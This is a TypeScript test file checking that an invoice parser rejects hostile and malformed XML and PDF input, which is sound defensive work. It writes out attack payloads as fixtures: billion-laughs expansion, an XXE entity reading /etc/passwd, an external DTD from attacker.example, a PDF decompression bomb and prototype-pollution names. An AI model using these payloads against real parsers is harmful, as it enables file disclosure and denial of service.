import { beforeAll, describe, expect, it } from 'vitest';
import { MAX_INPUT_BYTES } from '../../../../src/invoices/parsing/index.js';
import { parsePdfIsolated } from '../../../../src/invoices/parsing/pdf.js';
import { buildPdf, deflatedSpaces } from './pdf-builder.js';
import { parseChecked, sampleBytes } from './samples.js';

const encode = (text: string) => new TextEncoder().encode(text);
/** Every hostile input must be answered quickly; this is generous for a slow CI machine. */
// A hang guard, not a speed target (benchmarks measure speed); CI machines are busy.
const QUICK_MS = 15_000;

async function expectQuickFailure(bytes: Uint8Array, code: string) {
  const started = performance.now();
  const outcome = await parseChecked(bytes);
  expect(performance.now() - started).toBeLessThan(QUICK_MS);
  expect(outcome).toMatchObject({ kind: 'failed', code });
  if (outcome.kind === 'failed') expect(outcome.message.length).toBeGreaterThan(10);
}

describe('hostile and broken input ends in a failed outcome', () => {
  // PDFs are read in a helper process (src/shared/isolated.ts); its start is not what is timed.
  beforeAll(async () => {
    await parseChecked(sampleBytes('pdf-plain/mustang-RE-20201121_508blanko.pdf'));
  }, 60_000);

  it('rejects billion-laughs entity expansion', async () => {
    const levels = Array.from(
      { length: 9 },
      (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level};`.repeat(10)}">`,
    ).join('\n');
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 "lol">\n${levels}\n]>\n<Invoice>&lol9;</Invoice>`;
    await expectQuickFailure(encode(xml), 'xml_entities_rejected');
  });

  it('rejects external entities (XXE)', async () => {
    const xml =
      '<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Invoice><ID>&xxe;</ID></Invoice>';
    await expectQuickFailure(encode(xml), 'xml_entities_rejected');
  });

  it('rejects an external DTD reference', async () => {
    await expectQuickFailure(
      encode('<!DOCTYPE Invoice SYSTEM "http://attacker.example/x.dtd"><Invoice/>'),
      'xml_entities_rejected',
    );
  });

  it('rejects 10,000 levels of nesting', async () => {
    const depth = 10_000;
    await expectQuickFailure(
      encode(`<Invoice>${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}</Invoice>`),
      'xml_too_deep',
    );
  });

  it('rejects millions of tiny elements before building a tree of them', async () => {
    const count = 4_000_000;
    await expectQuickFailure(encode(`<Invoice>${'<a/>'.repeat(count)}</Invoice>`), 'xml_too_many_elements');
  });

  it('rejects truncated XML', async () => {
    const bytes = sampleBytes('peppol-bis3/peppol-base-example.xml');
    await expectQuickFailure(bytes.subarray(0, Math.floor(bytes.byteLength / 2)), 'malformed_xml');
  });

  it('rejects a truncated PDF', async () => {
    const bytes = sampleBytes('pdf-plain/corpus-Hetzner_2016-01-19_R0005532486.pdf');
    await expectQuickFailure(bytes.subarray(0, Math.floor(bytes.byteLength / 2)), 'truncated_pdf');
  });

  it('stops a PDF whose embedded file inflates to gigabytes, and the caller does not pay for it', async () => {
    const bomb = buildPdf({
      lines: ['Invoice 1'],
      attachments: [{ name: 'factur-x.xml', content: await deflatedSpaces(2048), deflated: true }],
    });
    expect(bomb.byteLength).toBeLessThan(MAX_INPUT_BYTES);
    const before = process.memoryUsage.rss();
    // A quarter of the production limit: reaching 1.5 GiB took the helper about 20 s of CPU.
    const outcome = await parsePdfIsolated(bomb, {}, { memoryBytes: 384 * 2 ** 20 });
    expect(outcome).toMatchObject({
      kind: 'failed',
      code: 'pdf_too_large_inflated',
      message: expect.stringContaining('384 MiB'),
    });
    expect(process.memoryUsage.rss() - before).toBeLessThan(256 * 2 ** 20);
    // The next PDF is read as usual, by a new helper.
    expect((await parseChecked(sampleBytes('pdf-plain/mustang-RE-20201121_508blanko.pdf'))).kind).toBe('invoice');
    // The new helper process it ends with starts slowly on a loaded machine.
  }, 120_000);

  it('rejects a PDF whose body is garbage', async () => {
    await expectQuickFailure(encode(`%PDF-1.7\n${'garbage '.repeat(100)}\n%%EOF\n`), 'malformed_pdf');
    // The first PDF after the one above may wait for a helper process to start.
  }, 60_000);

  it('rejects random bytes', async () => {
    const random = new Uint8Array(64 * 1024);
    let state = 42;
    for (let index = 0; index < random.length; index += 1) {
      state = (state * 1103515245 + 12345) >>> 0;
      random[index] = 0x80 | (state >>> 24); // high bytes: never "<" or "%PDF"
    }
    await expectQuickFailure(random, 'unsupported_format');
  });

  it('rejects Latin-1 bytes under a UTF-8 declaration', async () => {
    const text = '<?xml version="1.0" encoding="UTF-8"?><Invoice><ID>M\xE4rz</ID></Invoice>';
    await expectQuickFailure(
      Uint8Array.from(text, (char) => char.charCodeAt(0)),
      'invalid_encoding',
    );
  });

  it('rejects an unknown declared encoding', async () => {
    await expectQuickFailure(encode('<?xml version="1.0" encoding="x-klingon"?><Invoice/>'), 'unsupported_encoding');
  });

  it('rejects UTF-16 declared over single-byte content', async () => {
    await expectQuickFailure(encode('<?xml version="1.0" encoding="UTF-16"?><Invoice/>'), 'invalid_encoding');
  });

  it('rejects an empty file', async () => {
    await expectQuickFailure(new Uint8Array(0), 'empty_file');
  });

  it('rejects a file over the size limit before parsing it', async () => {
    const large = new Uint8Array(MAX_INPUT_BYTES + 1024 * 1024).fill(0x20);
    large.set(encode('<Invoice>'), 0);
    expect(large.byteLength).toBeGreaterThan(MAX_INPUT_BYTES);
    await expectQuickFailure(large, 'file_too_large');
  });

  it('rejects element names that would pollute object prototypes', async () => {
    await expectQuickFailure(
      encode('<Invoice><__proto__><ID>1</ID></__proto__><constructor/></Invoice>'),
      'malformed_xml',
    );
  });

  it('rejects XML that is not an invoice format', async () => {
    await expectQuickFailure(encode('<?xml version="1.0"?><rss><channel/></rss>'), 'unsupported_format');
  });

  it('reports a UBL order as not an invoice', async () => {
    const outcome = await parseChecked(
      encode('<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"><ID>1</ID></Order>'),
    );
    expect(outcome).toEqual({ kind: 'not_invoice', reason: 'The XML is a UBL purchase order, not an invoice.' });
  });
});
